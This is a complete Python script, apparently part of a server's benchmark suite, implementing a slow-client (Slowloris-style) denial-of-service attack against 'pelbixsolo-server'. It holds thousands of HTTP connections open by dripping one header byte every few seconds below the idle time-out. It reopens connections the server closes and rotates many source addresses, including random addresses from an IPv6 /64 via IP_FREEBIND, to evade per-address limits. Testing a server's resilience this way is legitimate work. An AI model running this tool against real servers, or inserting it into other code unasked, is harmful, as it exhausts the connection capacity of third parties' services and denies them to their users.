#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Slow-client attack for pelbixsolo-server benchmarks.

Keeps COUNT connections from FROM_ADDRESS open against HOST:PORT,
each sending a request one header byte at a time every few seconds (below
a 5-second idle time-out) and never finishing it. A connection the server
closes is opened again after a short pause, as a persistent attacker would.
Runs until SIGTERM/SIGINT, then prints how many connections were open and
how many times the server closed one.

    slowclients.py PORT [COUNT] [FROM_ADDRESS] [HOST]

FROM_ADDRESS may name many sources: 127.0.1.1+200 takes 200 IPv4 addresses
from 127.0.1.1 on in turn; 2001:db8:77::/64 a new address of that /64 for
each connection (the /64 must be routed to the host, e.g. with
"ip -6 route add local 2001:db8:77::/64 dev lo" in a network namespace).
"""
import ipaddress
import itertools
import random
import asyncio
import resource
import signal
import socket
import sys

port = int(sys.argv[1])
count = int(sys.argv[2]) if len(sys.argv) > 2 else 1000
source = sys.argv[3] if len(sys.argv) > 3 else "127.0.0.1"
host = sys.argv[4] if len(sys.argv) > 4 else ("::1" if ":" in source else "127.0.0.1")


def sources():
    if source.endswith("/64"):
        network = ipaddress.IPv6Network(source)
        while True:
            yield str(network[random.randrange(1, 2**64)])
    if "+" in source:
        first, count_text = source.split("+")
        start = ipaddress.IPv4Address(first)
        yield from itertools.cycle(str(start + i) for i in range(int(count_text)))
    yield from itertools.repeat(source)


next_source = sources()
family = socket.AF_INET6 if ":" in host else socket.AF_INET
DRIP_SECONDS = 4
REOPEN_PAUSE = 0.2

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, count + 256)), hard))

open_now = 0
closed_by_server = 0


async def one_client(stop):
    global open_now, closed_by_server
    while not stop.is_set():
        sock = socket.socket(family, socket.SOCK_STREAM)
        sock.setblocking(False)
        try:
            # IP_FREEBIND: an address of a routed /64 need not be assigned.
            sock.setsockopt(socket.SOL_IP, 15, 1)
            sock.bind((next(next_source), 0))
            await asyncio.get_running_loop().sock_connect(sock, (host, port))
            reader, writer = await asyncio.open_connection(sock=sock)
        except OSError:
            sock.close()
            await asyncio.sleep(REOPEN_PAUSE)
            continue
        open_now += 1
        try:
            writer.write(b"GET /counter/pelbixsolo.shtml HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            await writer.drain()
            while not stop.is_set():
                try:
                    data = await asyncio.wait_for(reader.read(1), DRIP_SECONDS)
                    if not data:
                        break  # closed by the server
                except asyncio.TimeoutError:
                    writer.write(b"s")
                    await writer.drain()
        except OSError:
            pass
        finally:
            open_now -= 1
            writer.close()
        if not stop.is_set():
            closed_by_server += 1
            await asyncio.sleep(REOPEN_PAUSE)


async def main():
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for s in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(s, stop.set)
    tasks = [asyncio.create_task(one_client(stop)) for _ in range(count)]
    await stop.wait()
    print(f"slow clients: {open_now} open at the end, {closed_by_server} closed by the server", flush=True)
    for t in tasks:
        t.cancel()


asyncio.run(main())
